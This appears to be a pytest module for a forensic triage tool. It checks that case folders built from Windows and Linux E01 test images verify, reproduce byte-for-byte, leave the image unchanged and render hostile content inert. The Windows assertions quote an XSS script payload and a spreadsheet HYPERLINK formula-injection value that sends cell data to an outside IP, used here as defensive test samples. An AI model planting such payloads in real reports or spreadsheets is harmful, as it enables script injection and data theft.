"""Case folders from the project's test images (Windows and Linux E01, built by test_images): each
passes ``triage verify``, comes out byte-identical twice, leaves the image untouched, carries the
image's own acquisition hashes verified, and shows the image's hostile task content inert."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest

from test_images.build import build_windows
from test_images.build_linux import build_linux
from tests.export.hostile import HUNT_DATE, OUTPUT_NAMES
from triage.collect import Context
from triage.export import write_case
from triage.export.manifest import verify_main
from triage.run import run

BUILDERS = {"windows": build_windows, "linux": build_linux}
# What each builder's ewfacquire line writes into the E01 header (case number, frozen acquisition clock).
ACQUISITION = {"windows": ("TRIAGE-T1053", "2024-03-14T09:12:44Z"), "linux": ("CASE-2024-017", "2024-03-14T09:12:44Z")}


def _sha256(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module", params=sorted(BUILDERS))
def image_case(request, tmp_path_factory):
    base = tmp_path_factory.mktemp(f"image-{request.param}")
    image = BUILDERS[request.param](base / "images")["e01"]
    before = _sha256(image)
    outs = []
    for index in (1, 2):
        out = base / f"case{index}"
        ctx = Context(quiet=True)
        case = run([str(image)], ctx, hunt_date=HUNT_DATE)
        write_case(case, out, ctx, argv=["triage", str(image), "-o", "CASE", "--hunt-date", HUNT_DATE])
        outs.append(out)
    return request.param, image, before, outs


def test_image_case_folder_passes_verify(image_case, capsys):
    _, _, _, (out, _) = image_case
    assert {p.name for p in out.iterdir()} == OUTPUT_NAMES
    files = [p for p in out.rglob("*") if p.is_file() and p.name not in ("manifest.json", "manifest.sha256")]
    assert verify_main([str(out)]) == 0
    assert f"{len(files)} output file(s), 1 evidence file(s) checked: all match" in capsys.readouterr().out


def test_image_case_folder_is_byte_identical_twice(image_case):
    _, _, _, (one, two) = image_case
    names = sorted(p.relative_to(one).as_posix() for p in one.rglob("*") if p.is_file() and p.name not in ("manifest.json", "manifest.sha256"))
    assert names == sorted(p.relative_to(two).as_posix() for p in two.rglob("*") if p.is_file() and p.name not in ("manifest.json", "manifest.sha256"))
    for name in names:
        assert (one / name).read_bytes() == (two / name).read_bytes(), name
    first, second = (json.loads((d / "manifest.json").read_text(encoding="utf-8")) for d in (one, two))
    for manifest in (first, second):
        del manifest["started"], manifest["finished"]
    assert first == second


def test_image_is_unchanged_and_its_stored_hash_verified(image_case):
    name, image, before, (out, _) = image_case
    assert _sha256(image) == before
    [item] = json.loads((out / "manifest.json").read_text(encoding="utf-8"))["evidence"]
    assert item["sha256"] == before
    ewf = item["ewf"]
    assert ewf["status"] == "verified" and ewf["match"]["md5"] is True
    assert ewf["stored_hashes"]["md5"] == ewf["computed_hashes"]["md5"]
    assert (ewf["acquisition"]["case_number"], ewf["acquisition"]["acquisition_date_utc"]) == ACQUISITION[name]


def test_image_hostile_content_is_inert_in_every_output(image_case):
    name, _, _, (out, _) = image_case
    rows = list(csv.reader(io.StringIO((out / "timeline.csv").read_text(encoding="utf-8"))))
    assert len(rows) > 1
    for row in rows[1:]:
        assert all(cell == "-" or not cell.startswith(("=", "+", "-", "@")) for cell in row), row
    report = (out / "report.html").read_text(encoding="utf-8")
    assert "<script" not in report.lower()
    if name == "windows":
        # \Printer Health Report's Description and \@SUM(1+1)'s Author from the image, shown as text.
        assert "&lt;script&gt;alert(1)&lt;/script&gt; Checks printer queues every morning." in report
        assert "=HYPERLINK(&quot;http://203.0.113.9/x?c=&quot;&amp;A1,&quot;details&quot;)" in report
        entities = [json.loads(line) for line in (out / "tasks.jsonl").read_text(encoding="utf-8").splitlines()]
        assert any(e["task"] == "\\@SUM(1+1)" for e in entities)
